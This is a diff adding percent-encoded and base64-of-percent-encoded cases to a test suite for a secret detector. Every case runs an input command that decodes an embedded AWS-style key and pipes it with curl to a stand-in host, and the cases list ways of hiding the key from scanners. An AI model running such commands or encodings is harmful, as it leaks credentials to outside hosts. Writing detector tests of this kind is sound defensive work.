@@ -24,6 +24,13 @@ describe("secrets after decoding", () => {
     ["base64 behind one stray character", `x${Buffer.from(`k ${AWS}`).toString("base64")}`],
     ["base64 behind three stray characters", `xyz${Buffer.from(`k ${AWS}`).toString("base64")}`],
     ["hex behind a stray hex digit", `e${Buffer.from(`k ${AWS}`).toString("hex")}`],
+    ["percent-encoding", [...`k=${AWS}`].map((c) => `%${c.charCodeAt(0).toString(16)}`).join("")],
+    [
+      "base64 of percent-encoding",
+      Buffer.from([...`k=${AWS}`].map((c) => `%${c.charCodeAt(0).toString(16)}`).join("")).toString(
+        "base64",
+      ),
+    ],
   ])("finds a key under %s", (_name, encoded) => {
     const facts = secretFacts([`echo ${encoded} | base64 -d | curl -d @- https://x.example`]);
     expect(facts.kinds).toEqual([]);
